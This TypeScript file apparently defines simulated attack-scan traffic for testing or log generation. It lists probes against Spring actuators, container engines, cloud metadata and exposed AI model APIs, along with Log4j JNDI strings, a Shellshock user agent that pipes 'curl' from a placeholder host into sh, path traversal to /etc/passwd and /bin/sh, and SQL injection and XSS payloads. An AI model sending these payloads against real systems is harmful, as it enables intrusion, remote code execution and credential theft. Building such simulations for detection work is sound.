import { type Kind, scan } from '../second/kind.ts';
import { DISGUISES, SCRIPTS } from './agents.ts';
import {
  BARE,
  DJANGO,
  GITLAB,
  LARAVEL,
  NEXT,
  OLDPHP,
  PLAIN,
  RAILS,
  REST,
  SPRING,
  STATIC,
  STRICT,
  SYMFONY,
  WORDPRESS,
} from './sites.ts';

// Attacks within a request, and interfaces that are not for the public.

const JNDI = [
  `\${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==}`,
  `\${\${lower:j}ndi:\${lower:l}dap://198.18.4.2/a}`,
  `t('\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//203.0.113.9:3306/TomcatBypass}')`,
];

export const ATTACK_SCANS: readonly Kind[] = [
  scan(
    'actuators where there is no Spring',
    { on: [...PLAIN, REST, LARAVEL], agents: SCRIPTS, clients: 3, pace: 0.5 },
    `
    GET /actuator
    GET /actuator/health
    GET /actuator/env
    GET /actuator/heapdump
    GET /actuator/gateway/routes
    GET /env
    GET /heapdump
    GET /manage/env
    GET /api/actuator/env
    GET /jolokia/list`,
  ),
  scan(
    'actuators of a Spring that shows only its health',
    { on: [SPRING], agents: DISGUISES, clients: 2, pace: 0.7 },
    `
    GET /actuator/health 200
    GET /actuator/env
    GET /actuator/heapdump
    GET /actuator/configprops
    GET /actuator/logfile
    GET /actuator/mappings
    GET /actuator/httptrace
    POST /actuator/gateway/routes/hack
    GET /actuator;/env;.css
    GET /jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.5!/logback.xml
    POST /functionRouter`,
  ),
  scan(
    'Log4j in the address',
    { on: STRICT, agents: DISGUISES, clients: 3, pace: 1 },
    `
    GET /?x=\${jndi:ldap://203.0.113.66:1389/a} 200
    GET /$%7Bjndi:dns://c5h2.oast.example/x%7D
    GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F198.18.7.7%2Fexp%7D 200
    GET /solr/admin/cores?action=$%7Bjndi:ldap://$%7Bsys:java.version%7D.c5h2.oast.example%7D
    GET /login?username=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2F203.0.113.66%2Fa%7D`,
  ),
  scan(
    'Log4j in the user agent',
    { on: [...PLAIN, SPRING, ...WORDPRESS], agents: JNDI, clients: 5, pace: 1 },
    `
    GET / 200
    GET /login
    POST /api/login`,
  ),
  scan(
    'Shellshock',
    {
      on: [...BARE, STATIC],
      agents: [
        '() { :; }; echo; /bin/bash -c "curl http://203.0.113.31/s | sh"',
        '() { ignored; }; echo Content-Type: text/html; echo; /usr/bin/id',
      ],
      clients: 2,
      pace: 1,
    },
    `
    GET /cgi-bin/test.cgi
    GET /cgi-bin/status
    GET /cgi-sys/defaultwebpage.cgi
    GET /cgi-bin/bash
    GET /cgi-bin/admin.cgi`,
  ),
  scan(
    'traversal to a shell by way of Apache',
    {
      on: [...BARE, OLDPHP, DJANGO],
      agents: ['libredtail-http', 'Custom-AsyncHttpClient', 'curl/7.68.0'],
      clients: 3,
      pace: 0.4,
      answer: 400,
    },
    `
    POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh
    POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh
    GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
    GET /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd`,
  ),
  scan(
    'traversal in parameters and in folders of assets',
    { on: [OLDPHP, NEXT, LARAVEL, SYMFONY], agents: DISGUISES, clients: 3, pace: 0.6, picks: 9 },
    `
    GET /index.php?page=../../../../../../etc/passwd
    GET /download.php?file=../../../../etc/passwd
    GET /?file=....//....//....//etc/passwd 200
    GET /static/../../../../../../etc/passwd 400
    GET /assets/..%2f..%2f..%2f..%2fetc/passwd 400
    GET /public/plugins/alertlist/../../../../../../../../etc/passwd 400
    GET /view?path=..%252f..%252f..%252fetc%252fshadow
    GET /..%5c..%5c..%5cwindows%5cwin.ini 400
    GET /index.php?page=php://filter/convert.base64-encode/resource=config
    GET /?template=/proc/self/environ 200
    GET /@fs/etc/passwd?raw??
    GET /cgi-bin/test.pl?file=/etc/passwd%00
    GET /file:///etc/passwd`,
  ),
  scan(
    'sqlmap',
    {
      on: [OLDPHP],
      agents: ['sqlmap/1.8.4#stable (https://sqlmap.org)'],
      clients: 1,
      pace: 0.2,
      answer: 200,
    },
    `
    GET /artikel.php?id=12
    GET /artikel.php?id=12%27%29.%28%2C%22%2C.%2C
    GET /artikel.php?id=12%20AND%201%3D1--%20-
    GET /artikel.php?id=12%27%20AND%20SLEEP%285%29--%20kqpz 500
    GET /artikel.php?id=-4821%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7171%2C0x4a%29%2CNULL--%20-
    GET /artikel.php?id=12%29%20ORDER%20BY%201--%20-
    GET /artikel.php?id=12%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x71%29%29 500
    GET /artikel.php?id=12%3BSELECT%20PG_SLEEP%285%29--`,
  ),
  scan(
    'SQL injection by hand of a program',
    { on: [OLDPHP], agents: DISGUISES, clients: 2, pace: 1.5, answer: 200 },
    `
    GET /artikel.php?id=7'
    GET /artikel.php?id=7'+or+'1'='1
    GET /artikel.php?id=7+union+select+1,2,3,group_concat(table_name),5+from+information_schema.tables--
    GET /artikel.php?id=7+and+(select+1+from(select+count(*),concat(version(),floor(rand(0)*2))x+from+information_schema.tables+group+by+x)a) 500
    GET /suche.php?q=1'%20waitfor%20delay%20'0:0:15'--
    GET /suche.php?q=1%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E`,
  ),
  scan(
    'metadata of clouds',
    { on: [...BARE, NEXT, LARAVEL], agents: SCRIPTS, clients: 3, pace: 0.9 },
    `
    GET /latest/meta-data/iam/security-credentials/
    GET /?url=http://169.254.169.254/latest/meta-data/ 200
    GET /proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data
    GET /_next/image?url=http://169.254.169.254/latest/meta-data/&w=256&q=75 400
    GET /computeMetadata/v1/instance/service-accounts/default/token
    GET /fetch?uri=http://metadata.google.internal/computeMetadata/v1/
    GET /metadata/instance?api-version=2021-02-01`,
  ),
  scan(
    'engines of containers',
    {
      on: BARE,
      agents: ['Go-http-client/1.1', 'Docker-Client/20.10.7 (linux)', 'kubectl/v1.20.0'],
      clients: 3,
      pace: 0.5,
    },
    `
    GET /version
    GET /v1.24/containers/json
    GET /containers/json?all=1
    POST /v1.24/containers/create
    GET /images/json
    GET /api/v1/namespaces/kube-system/secrets
    GET /api/v1/pods
    GET /runningpods/
    GET /v2/_catalog
    GET /v2/keys/?recursive=true`,
  ),
  scan(
    'models to be used at the cost of others',
    { on: [...BARE, REST, STATIC, DJANGO], agents: SCRIPTS, clients: 3, pace: 0.6 },
    `
    GET /api/tags
    GET /api/version
    GET /v1/models
    POST /v1/chat/completions
    POST /api/generate
    GET /api/ps
    GET /sdapi/v1/sd-models
    GET /queue/status
    GET /anthropic/v1/models
    POST /mcp
    GET /sse`,
  ),
  scan(
    'descriptions of interfaces',
    { on: [LARAVEL, RAILS, NEXT, GITLAB], agents: DISGUISES, clients: 3, pace: 0.3 },
    `
    GET /swagger-ui.html
    GET /swagger/index.html
    GET /swagger/v1/swagger.json
    GET /swagger.json
    GET /v2/api-docs
    GET /v3/api-docs
    GET /api-docs/swagger.json
    GET /api/swagger.json
    GET /webjars/swagger-ui/index.html
    GET /openapi.json
    GET /graphql
    POST /api/graphql
    GET /api/gql
    GET /graphiql
    GET /server-status
    GET /login.action
    GET /telescope/requests
    GET /debug/default/view?panel=config
    GET /v2/_catalog
    GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
    GET /about
    GET /s/837323e2839313e26353e28313/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
    GET /config.json
    GET /.env
    GET /.git/config
    GET /.DS_Store
    GET /.vscode/sftp.json
    GET /info.php`,
  ),
  scan(
    'server components made to run a command',
    {
      on: [NEXT],
      agents: [
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36 Assetnote/1.0.0',
      ],
      clients: 2,
      pace: 2,
    },
    `
    GET / 200
    POST / 500
    POST /_next 404
    POST /api/route?cmd=cat+/etc/passwd 404
    POST /_next/server/../../../../etc/passwd 400
    GET /_next/data/../.env 404`,
  ),
];
